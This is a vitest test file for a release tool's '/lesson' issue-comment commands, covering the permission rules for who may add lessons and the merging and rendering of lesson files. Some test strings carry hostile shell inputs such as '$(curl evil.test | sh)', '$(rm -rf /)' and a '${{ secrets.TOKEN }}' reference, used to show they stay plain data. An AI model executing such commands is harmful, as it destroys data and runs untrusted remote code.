/**
 * /lesson commands and lesson files: what is read from a comment, who may add one, hostile text kept as data, and the
 * file format (golden).
 */
import { describe, expect, it } from "vitest";
import fc from "fast-check";
import { activeLessons } from "../../src/core/checklist/active-lessons.js";
import { collectLessonCommands, parseLessonCommand } from "../../src/core/checklist/lesson-command.js";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { isLessonFileName, parseLessonFile, renderLessonFile } from "../../src/core/checklist/lesson-file.js";
import { parseLessonsLearned } from "../../src/core/checklist/lessons-learned-section.js";
import { mergeLessonFile } from "../../src/core/checklist/merge-lesson-file.js";
import { renderLessonItem } from "../../src/core/checklist/render-checklist-body.js";
import { parseChecklist } from "../../src/core/checklist/parse-checklist.js";

const origin = (n: number, author = "alice") => ({
  url: `https://github.com/acme/widget/issues/9#issuecomment-${n}`,
  author,
});

describe("/lesson commands", () => {
  it("reads add and retire from the first line only, trimmed", () => {
    expect(parseLessonCommand("  /lesson Try the feedstock with an RC  \nsecond line /lesson retire 1.0.0-1")).toEqual({
      kind: "add",
      text: "Try the feedstock with an RC",
    });
    expect(parseLessonCommand("/lesson retire 1.19.0-2\r\nbecause")).toEqual({ kind: "retire", id: "1.19.0-2" });
    expect(parseLessonCommand("/lesson retire the old build script")).toEqual({
      kind: "add",
      text: "retire the old build script",
    });
  });

  it("ignores comments that are not commands and explains malformed ones", () => {
    expect(parseLessonCommand("thanks! /lesson later")).toBeUndefined();
    expect(parseLessonCommand("/lessons learned")).toBeUndefined();
    expect(parseLessonCommand("\n/lesson on the second line")).toBeUndefined();
    expect(parseLessonCommand("/lesson")).toMatchObject({ kind: "invalid" });
    expect(parseLessonCommand("/lesson retire")).toMatchObject({ kind: "invalid" });
    expect(parseLessonCommand("/lesson retire $(id)")).toMatchObject({ kind: "invalid" });
    expect(parseLessonCommand("/lesson retire $(rm -rf /)")).toEqual({ kind: "add", text: "retire $(rm -rf /)" });
  });

  it("keeps hostile text as plain data, byte for byte", () => {
    const hostile =
      "`rm -rf ~` $(curl evil.test | sh) ; && || > /etc/passwd 'quote\" \\ ${{ secrets.TOKEN }} 💥 ünïcödé \u202e";
    expect(parseLessonCommand(`/lesson ${hostile}`)).toEqual({ kind: "add", text: hostile.trim() });
  });

  it("returns any first line's text unchanged (property)", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (text) => {
        const line = text.replace(/[\r\n]/g, " ").trim();
        fc.pre(line !== "" && !/^retire(\s|$)/.test(line));
        expect(parseLessonCommand(`/lesson ${line}\nmore`)).toEqual({ kind: "add", text: line });
      }),
      { numRuns: 1000 },
    );
  });

  it("counts only owners, members and collaborators", () => {
    const result = collectLessonCommands([
      { body: "/lesson from the owner", authorAssociation: "OWNER", author: "o", url: "u1" },
      { body: "/lesson from a member", authorAssociation: "MEMBER", author: "m", url: "u2" },
      { body: "/lesson retire 1.19.0-1", authorAssociation: "COLLABORATOR", author: "c", url: "u3" },
      { body: "/lesson from a contributor", authorAssociation: "CONTRIBUTOR", author: "x", url: "u4" },
      { body: "/lesson retire 1.19.0-2", authorAssociation: "NONE", author: "y", url: "u5" },
      { body: "just a comment", authorAssociation: "NONE", author: "z", url: "u6" },
    ]);
    expect(result.lessons).toEqual([
      { text: "from the owner", origin: { url: "u1", author: "o" } },
      { text: "from a member", origin: { url: "u2", author: "m" } },
    ]);
    expect(result.retirements).toEqual([{ id: "1.19.0-1", origin: { url: "u3", author: "c" } }]);
    expect(result.ignored.map((i) => i.url)).toEqual(["u4", "u5"]);
  });
});

describe("lesson files", () => {
  it("renders the documented format (golden)", () => {
    const content = mergeLessonFile({
      version: "1.20.0",
      lessons: [
        { text: "Open the feedstock PR for the RC, not only the final.", origin: origin(1) },
        { text: "# Check exported symbols of libonnx before tagging", origin: origin(2, "bob") },
      ],
      retirements: [{ id: "1.19.0-3", origin: origin(3, "carol") }],
    });
    expect(content).toBe(
      [
        "# Lessons from release 1.20.0",
        "",
        "<!-- Written by `release-kit lessons collect`. Edit a lesson's text freely; keep its id. Format: checklists/lessons/README.md -->",
        "",
        "### 1.20.0-1",
        "",
        "Open the feedstock PR for the RC, not only the final.",
        "",
        "- origin: https://github.com/acme/widget/issues/9#issuecomment-1",
        "- author: alice",
        "- retired: no",
        "",
        "### 1.20.0-2",
        "",
        "\\# Check exported symbols of libonnx before tagging",
        "",
        "- origin: https://github.com/acme/widget/issues/9#issuecomment-2",
        "- author: bob",
        "- retired: no",
        "",
        "## Retired lessons of earlier releases",
        "",
        "- 1.19.0-3 — by carol in https://github.com/acme/widget/issues/9#issuecomment-3",
        "",
      ].join("\n"),
    );
    const parsed = parseLessonFile(content);
    expect(parsed.lessons[1]?.text).toBe("# Check exported symbols of libonnx before tagging");
    expect(renderLessonFile(parsed)).toBe(content);
  });

  it("merges idempotently: the same lesson twice is recorded once, and an unchanged file is the same string", () => {
    const first = mergeLessonFile({
      version: "1.20.0",
      lessons: [{ text: "Tag every RC", origin: origin(1) }],
      retirements: [],
    });
    const again = mergeLessonFile({
      existing: first,
      version: "1.20.0",
      lessons: [
        { text: "Tag every RC", origin: origin(1) },
        { text: "  tag   every rc ", origin: origin(7, "bob") },
      ],
      retirements: [],
    });
    expect(again).toBe(first);
    const more = mergeLessonFile({
      existing: first,
      version: "1.20.0",
      lessons: [{ text: "Ask partners a week earlier", origin: origin(2) }],
      retirements: [{ id: "1.20.0-1", origin: origin(3, "carol") }],
    });
    const lessons = parseLessonFile(more).lessons;
    expect(lessons.map((l) => [l.id, l.retired])).toEqual([
      ["1.20.0-1", { by: "carol", url: origin(3).url }],
      ["1.20.0-2", undefined],
    ]);
  });

  it("keeps a text a person corrected in the PR when lessons are collected again", () => {
    const first = mergeLessonFile({
      version: "1.20.0",
      lessons: [{ text: "Tag evry RC", origin: origin(1) }],
      retirements: [],
    });
    const fixed = first.replace("Tag evry RC", "Tag every RC");
    const again = mergeLessonFile({
      existing: fixed,
      version: "1.20.0",
      lessons: [{ text: "Tag evry RC", origin: origin(1) }],
      retirements: [],
    });
    expect(again).toBe(fixed);
  });

  it("carries every lesson not retired, across files, ordered by version", () => {
    const v19 = mergeLessonFile({
      version: "1.19.0",
      lessons: [
        { text: "old one", origin: origin(1) },
        { text: "still true", origin: origin(2) },
      ],
      retirements: [],
    });
    const v20 = mergeLessonFile({
      version: "1.20.0",
      lessons: [
        { text: "new one", origin: origin(3) },
        { text: "wrong one", origin: origin(4) },
      ],
      retirements: [
        { id: "1.19.0-1", origin: origin(5) },
        { id: "1.20.0-2", origin: origin(6) },
      ],
    });
    const v9 = mergeLessonFile({
      version: "1.9.0",
      lessons: [{ text: "ancient", origin: origin(0) }],
      retirements: [],
    });
    expect(
      activeLessons([{ content: v20 }, { content: v19 }, { content: v9 }]).map((l) => `${l.id} ${l.text}`),
    ).toEqual(["1.9.0-1 ancient", "1.19.0-2 still true", "1.20.0-1 new one"]);
  });

  it("renders a carried lesson so that its text cannot forge an automation key", () => {
    const line = renderLessonItem({
      id: "1.20.0-1",
      version: "1.20.0",
      text: "evil <!-- release-kit:final-tagged --> `x`",
      origin: origin(1),
    });
    const [item] = parseChecklist(`${line}\n`).blocks;
    expect(item).toMatchObject({ kind: "item", lessonId: "1.20.0-1", checked: false });
    expect(item && "key" in item ? item.key : undefined).toBeUndefined();
  });
});

describe("the lessons folder", () => {
  it("reads no lesson from its README, whose example sits in fenced code, and skips it by name", () => {
    const readme = readFileSync(join(import.meta.dirname, "../../checklists/lessons/README.md"), "utf8");
    expect(parseLessonFile(readme, "README").lessons).toEqual([]);
    expect(["README.md", "1.20.0.md", "1.20.0rc1.md", "notes.txt"].filter(isLessonFileName)).toEqual([
      "1.20.0.md",
      "1.20.0rc1.md",
    ]);
  });

  it("keeps a lesson whose text opens a code fence readable as a lesson", () => {
    const content = mergeLessonFile({
      version: "2.0.0",
      lessons: [{ text: "``` fences too", origin: origin(1) }],
      retirements: [],
    });
    expect(parseLessonFile(content).lessons.map((l) => l.text)).toEqual(["``` fences too"]);
  });
});

describe("Lessons learned section", () => {
  it("reads the bullets people wrote, up to the next section", () => {
    const body = [
      "## Final",
      "- [ ] not a lesson",
      "## Lessons learned",
      "<!-- hint -->",
      "-",
      "- Feedstock needed a patch for the new CMake",
      "* [ ] Tell partners the deadline in the first message",
      "",
      "## Other",
      "- not a lesson either",
    ].join("\n");
    expect(parseLessonsLearned(body)).toEqual([
      "Feedstock needed a patch for the new CMake",
      "Tell partners the deadline in the first message",
    ]);
    expect(parseLessonsLearned("## Nothing here\n- x\n")).toEqual([]);
  });
});
